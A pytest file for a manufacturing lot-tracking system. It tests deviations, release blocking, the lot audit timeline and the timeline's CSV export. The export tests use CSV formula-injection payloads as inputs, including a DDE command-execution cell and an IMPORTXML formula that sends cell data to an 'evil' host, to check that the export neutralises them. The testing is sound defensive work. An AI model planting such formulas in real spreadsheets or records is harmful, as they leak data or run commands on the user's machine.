"""Deviations (opened on a run or a lot, assessed, closed by QA, blocking release while open) and
the lot's audit timeline, with its CSV export safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from sqlalchemy.orm import Session

from lotrack.db import utcnow
from lotrack.domain.decisions import Action
from lotrack.domain.errors import Conflict, Forbidden, ValidationFailed
from lotrack.models import Deviation, Lot
from lotrack.services import audit, deviation, result, timeline
from lotrack.services import lot as lots
from lotrack.services.release import review
from tests.conftest import user
from tests.record_signing import signs
from tests.services.test_release import new_lot, qa_contains, qa_decides

YEAR = utcnow().year


def opened(s: Session, who: str = "tech", **subject) -> Deviation:
    dev = deviation.open_deviation(
        s, user(s, who), description="CO2 alarm for 40 minutes during P2", **subject
    )
    s.flush()
    return dev


def test_a_deviation_is_opened_on_a_run_or_a_lot_with_a_description(session):
    s = session
    lot = lots.get_lot(s, "CFM-2025-0002")
    dev = opened(s, lot=lot)
    assert (dev.number, dev.status, dev.lot, dev.run) == (f"DEV-{YEAR}-001", "open", lot, None)
    assert opened(s, "qa", run=lot.run).number == f"DEV-{YEAR}-002"
    assert deviation.get_deviation(s, f" dev-{YEAR}-001 ") is dev
    for subject, fields in (
        ({}, {"subject": "a run or a lot"}),
        ({"lot": lot, "run": lot.run}, {"subject": "a run or a lot"}),
    ):
        with pytest.raises(ValidationFailed) as err:
            opened(s, **subject)
        assert err.value.fields == fields
    with pytest.raises(ValidationFailed) as err:
        deviation.open_deviation(s, user(s, "tech"), lot=lot, description="   ")
    assert err.value.fields == {"description": "required"}
    for role_user in ("md", "nurse", "admin"):
        with pytest.raises(Forbidden):
            opened(s, role_user, lot=lot)
    assert [d.number for d in deviation.list_deviations(s, status="open").items] == [
        f"DEV-{YEAR}-002",
        f"DEV-{YEAR}-001",
    ]


def test_closing_needs_an_assessment_a_closure_and_qa(session):
    s = session
    dev = opened(s, lot=lots.get_lot(s, "CFM-2025-0002"))
    qa, tech = user(s, "qa"), user(s, "tech")
    with pytest.raises(ValidationFailed) as err:
        deviation.close(s, qa, dev, "", **signs("qa", "closed"))
    assert err.value.fields == {
        "impact_assessment": "assess the impact before closing",
        "closure": "required",
    }
    with pytest.raises(ValidationFailed) as err:
        deviation.assess(s, tech, dev, " ")
    assert err.value.fields == {"impact_assessment": "required"}
    deviation.assess(s, tech, dev, "no impact: culture back in range within the hour")
    with pytest.raises(Forbidden):
        deviation.close(s, tech, dev, "closed by the technician", **signs("tech", "closed"))
    with pytest.raises(ValidationFailed) as err:
        deviation.close(s, qa, dev, "  ", **signs("qa", "closed"))
    assert err.value.fields == {"closure": "required"}
    deviation.close(s, qa, dev, "CAPA-12 raised for the alarm relay", **signs("qa", "closed"))
    assert (dev.status, dev.closed_by, dev.closure) == (
        "closed",
        qa,
        "CAPA-12 raised for the alarm relay",
    )
    assert dev.closed_at is not None
    with pytest.raises(Conflict) as err:
        deviation.close(s, qa, dev, "again", **signs("qa", "closed"))
    assert err.value.fields == {"deviation": "closed"}
    with pytest.raises(Conflict):
        deviation.assess(s, tech, dev, "rewritten after closure")
    assert dev.impact_assessment == "no impact: culture back in range within the hour"
    s.commit()
    history = audit.history(s, "deviation", str(dev.id))
    assert [(e.action, e.actor, e.reason) for e in history] == [
        ("create", "tech", ""),
        ("update", "tech", "impact assessed"),
        ("update", "qa", "closed"),
    ]
    assert audit.verify(s).ok


def test_an_open_deviation_blocks_release_until_it_is_closed(session):
    s = session
    lot = new_lot(s)
    dev = opened(s, run=lot.run)
    assert dev in deviation.open_for_lot(s, lot)
    assert [b.subject for b in review(s, lot).blockers] == [dev.number]
    deviation.assess(s, user(s, "qa"), dev, "no impact on the product")
    deviation.close(s, user(s, "qa"), dev, "reviewed", **signs("qa", "closed"))
    s.flush()
    assert deviation.open_for_lot(s, lot) == [] and review(s, lot).releasable
    assert qa_decides(s, lot, Action.RELEASE).meaning == "approved for release"


def records(entries: list[timeline.Entry]) -> set[str]:
    return {e.record.split(" ")[0] for e in entries}


def test_the_timeline_holds_every_event_of_the_lots_dossier_in_order(session):
    s = session
    lot = new_lot(s, unverified=("POTENCY",))
    other = lots.get_lot(s, "CFM-2025-0001")  # same run
    potency = next(r for r in result.results_of(s, lot) if r.test_code == "POTENCY")
    result.verify_result(s, user(s, "tech2"), potency)
    dev = opened(s, run=lot.run)
    deviation.assess(s, user(s, "qa"), dev, "no impact")
    deviation.close(s, user(s, "qa"), dev, "reviewed", **signs("qa", "closed"))
    sig = qa_decides(s, lot, Action.RELEASE)
    record = qa_contains(s, "hold", reason='=HYPERLINK("http://x")', lot=lot)
    s.commit()
    entries = timeline.lot_timeline(s, lot)
    assert [e.seq for e in entries] == sorted(e.seq for e in entries)
    assert records(entries) == {
        "lot",
        "unit",
        "result",
        "signature",
        "deviation",
        "containment",
        "containment_lot",
    }
    shown = {(e.record, e.action) for e in entries}
    # Records by their numbers and names, not their ids (an auditor reads these).
    named_result = f"result {potency.id} (POTENCY {potency.value} {potency.unit})"
    assert {
        (named_result, "update"),
        (f"deviation {dev.number}", "create"),
        (f"signature {sig.id} (approved for release, qa)", "create"),
        (f"lot {lot.lot_number}", "release"),
        (f"lot {lot.lot_number}", "hold"),
        (f"containment {record.number}", "create"),
        (f"containment_lot {record.number} → {lot.lot_number}", "create"),
    } <= shown
    created = next(e for e in entries if e.record == named_result and e.action == "create")
    assert "analyst: tech" in created.changes and f"lot: {lot.lot_number}" in created.changes
    assert "spec_version: cfMSC release v" in created.changes and "_id:" not in created.changes
    verified = next(e for e in entries if e.record == named_result and e.action == "update")
    assert "verified_by: tech2" in verified.changes
    release_event = next(e for e in entries if e.action == "release")
    assert release_event.changes == "state: QUARANTINE → RELEASED"
    assert release_event.at.endswith(" UTC") and release_event.actor == "qa"
    mine = {e.seq for e in entries}
    theirs = timeline.lot_timeline(s, other)
    assert f"deviation {dev.number}" in {e.record for e in theirs}  # a run deviation: both
    assert not any(e.record == f"lot {lot.lot_number}" for e in theirs)
    assert not {e.seq for e in theirs if e.record.startswith("result ")} & mine


def _entry(**cells: object) -> timeline.Entry:
    moment = dt.datetime(2026, 1, 2, 3, 4, 5, tzinfo=dt.UTC)
    base = dict(seq=1, at="2026-01-02 03:04:05 UTC", actor="qa", action="release", moment=moment)
    return timeline.Entry(**(base | {"record": "lot 1", "changes": "", "reason": ""} | cells))


@pytest.mark.parametrize(
    "value", ["=1+1", "+1", "-2", "@SUM(A1)", "\tTAB", "\r=1", "=cmd|' /C calc'!A0"]
)
def test_the_csv_neutralises_cells_a_spreadsheet_would_run(value):
    rows = list(
        csv.reader(io.StringIO(timeline.to_csv([_entry(reason=value, actor=value)]), newline=""))
    )
    assert rows[0] == list(timeline.COLUMNS)
    assert rows[1][2] == rows[1][6] == "'" + value


def test_the_csv_round_trips_through_a_csv_reader():
    entries = [
        _entry(seq=1, reason='said "no", then yes'),
        _entry(seq=2, changes="value: 1,5 → 1.5; note: a\nb", reason="multi\r\nline"),
        _entry(seq=3, actor="ünïcode", reason="a=b is not a formula"),
    ]
    text = timeline.to_csv(entries)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(timeline.COLUMNS)
    assert rows[1:] == [[str(c) for c in e.row()] for e in entries]


def test_a_formula_typed_as_a_reason_is_exported_harmless(session):
    s = session
    lot: Lot = lots.get_lot(s, "CFM-2025-0003")
    qa_decides(s, lot, Action.REJECT, reason='=IMPORTXML(CONCAT("http://evil/",A1))')
    s.commit()
    rows = list(csv.reader(io.StringIO(timeline.to_csv(timeline.lot_timeline(s, lot)))))
    reasons = [r[6] for r in rows[1:] if r[6].lstrip("'").startswith("=")]
    assert reasons and all(r.startswith("'=") for r in reasons)
